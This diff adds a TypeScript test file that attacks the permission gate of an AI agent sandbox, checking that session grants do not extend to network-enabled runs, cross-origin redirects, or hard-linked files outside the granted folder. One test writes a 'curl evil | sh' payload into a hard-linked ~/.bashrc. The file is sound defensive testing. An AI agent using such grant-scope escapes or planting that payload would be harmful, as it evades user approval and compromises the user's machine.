@@ -1,0 +1,118 @@
+// Attacks on the scope of what the agent gate allows: a request the user allowed (once or "for
+// the session") must not reach more than the question said. Each test is the attack, sent by an
+// agent holding the token over a real loopback websocket to a real endpoint (its own engine).
+import assert from 'node:assert/strict';
+import { linkSync, readFileSync, writeFileSync } from 'node:fs';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import path from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { managedSandbox, workspaceWriteEntries } from '../../src/protocol/codex-sandbox';
+import { RawAgent, removeDir, startEndpoint, startParams, tmpDir, uri, type EndpointFixture } from './agent-attack-helpers';
+
+let ws: string; // the workspace folder
+let outside: string; // stands for $HOME
+let project: string; // a folder outside the workspace the user lets the agent change
+before(() => {
+  ws = tmpDir('agent-scope-ws-');
+  outside = tmpDir('agent-scope-home-');
+  project = tmpDir('agent-scope-project-');
+  writeFileSync(path.join(outside, '.bashrc'), 'original\n');
+  writeFileSync(path.join(outside, 'id_rsa'), 'PRIVATE KEY');
+});
+after(() => {
+  removeDir(ws);
+  removeDir(outside);
+  removeDir(project);
+});
+
+async function withAgent(opts: Parameters<typeof startEndpoint>[0], body: (f: EndpointFixture, a: RawAgent) => Promise<void>): Promise<void> {
+  const f = await startEndpoint({ roots: [ws], ...opts });
+  const a = await RawAgent.connect(f.url, f.token);
+  try {
+    await a.handshake();
+    await body(f, a);
+  } finally {
+    a.close();
+    await f.stop();
+  }
+}
+
+/** Codex's workspace-write sandbox (protocol §6b) with the given network and protected subpaths. */
+function codexSandbox(network: 'restricted' | 'enabled', protectedSubpaths: string[] = ['.git']) {
+  return managedSandbox({ entries: workspaceWriteEntries({ protectedSubpaths }), cwd: uri(ws), network });
+}
+
+const b64 = (s: string) => Buffer.from(s).toString('base64');
+
+describe('agent gate: grant scope attacks', () => {
+  it('run grant: "Allow for Session" for a command with the network off does not cover the same command with the network on, or with fewer read-only carve-outs', async () => {
+    await withAgent({ policy: 'alwaysAsk', answer: () => 'Allow for Session' }, async (f, a) => {
+      const argv = ['/bin/sh', '-c', 'true'];
+      assert.ok((await a.send('process/start', startParams('n1', argv, ws, { sandbox: codexSandbox('restricted') }))).result);
+      assert.equal(f.questions.length, 1);
+      assert.match(f.questions[0].detail, /network restricted/);
+      // Same program, cwd, env, writable roots: only the network differs. The user never saw "network enabled".
+      await a.send('process/start', startParams('n2', argv, ws, { sandbox: codexSandbox('enabled') }));
+      assert.equal(f.questions.length, 2, 'the network-enabled run was asked, not covered by the network-off grant');
+      assert.match(f.questions[1].detail, /network enabled/);
+      // .git was read-only in the granted sandbox; a sandbox that may write it is another sandbox.
+      await a.send('process/start', startParams('n3', argv, ws, { sandbox: codexSandbox('restricted', []) }));
+      assert.equal(f.questions.length, 3, 'the run without the .git carve-out was asked');
+    });
+  });
+
+  it('http grant: an allowed request to one origin is not followed by a redirect to another origin (the redirect comes back to the agent)', async () => {
+    let secretHits = 0;
+    const secret = http.createServer((_req, res) => {
+      secretHits++;
+      res.end('internal secret');
+    });
+    await new Promise<void>((r) => secret.listen(0, '127.0.0.1', r));
+    const secretUrl = `http://127.0.0.1:${(secret.address() as AddressInfo).port}/admin`;
+    const redirector = http.createServer((_req, res) => {
+      res.writeHead(302, { location: secretUrl });
+      res.end();
+    });
+    await new Promise<void>((r) => redirector.listen(0, '127.0.0.1', r));
+    // Another origin than the secret one: localhost vs 127.0.0.1.
+    const allowedUrl = `http://localhost:${(redirector.address() as AddressInfo).port}/go`;
+    try {
+      await withAgent({ policy: 'askOutsideWorkspace', answer: (q) => (q.message.includes('localhost') ? 'Allow for Session' : 'Deny') }, async (f, a) => {
+        const r = await a.send('http/request', { method: 'GET', url: allowedUrl, headers: [], requestId: 'h1', redirectPolicy: 'follow' });
+        assert.equal(f.questions.length, 1);
+        assert.equal(secretHits, 0, 'the redirect target (an origin the user was never asked about) was not contacted');
+        const res = r.result as { status: number; headers: { name: string; value: string }[]; bodyBase64: string } | undefined;
+        assert.ok(res, `allowed request answered: ${JSON.stringify(r.error)}`);
+        assert.equal(res.status, 302);
+        assert.ok(res.headers.some((h) => h.name === 'location' && h.value === secretUrl), 'the agent sees where it was sent');
+        assert.doesNotMatch(Buffer.from(res.bodyBase64, 'base64').toString(), /internal secret/);
+        // Following it by hand is a request to the other origin: asked (and denied here).
+        const again = await a.send('http/request', { method: 'GET', url: secretUrl, headers: [], requestId: 'h2' });
+        assert.equal(f.questions.length, 2);
+        assert.ok(again.error, 'denied');
+        assert.equal(secretHits, 0);
+      });
+    } finally {
+      secret.close();
+      redirector.close();
+    }
+  });
+
+  it('path grant: "Allow for Session" for changes under a folder does not cover a file there that is a hard link to a file elsewhere', async () => {
+    // A hard link in the granted folder to the user's ~/.bashrc (made by an earlier approved
+    // command, or there already: package-manager stores link files this way).
+    const link = path.join(project, 'notes.txt');
+    linkSync(path.join(outside, '.bashrc'), link);
+    await withAgent({ policy: 'askOutsideWorkspace', answer: (q) => (q.message.includes('a.txt') ? 'Allow for Session' : 'Deny') }, async (f, a) => {
+      assert.ok((await a.send('fs/writeFile', { path: uri(path.join(project, 'a.txt')), dataBase64: b64('ok') })).result);
+      assert.equal(f.questions.length, 1);
+      assert.match(f.questions[0].detail, new RegExp(`changes under ${project.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
+      const w = await a.send('fs/writeFile', { path: uri(link), dataBase64: b64('curl evil | sh\n') });
+      assert.equal(f.questions.length, 2, 'the hard-linked file was asked about, not covered by the folder grant');
+      assert.match(f.questions[1].detail, /other hard links/);
+      assert.ok(w.error, 'denied');
+      assert.equal(readFileSync(path.join(outside, '.bashrc'), 'utf8'), 'original\n');
+    });
+  });
+});
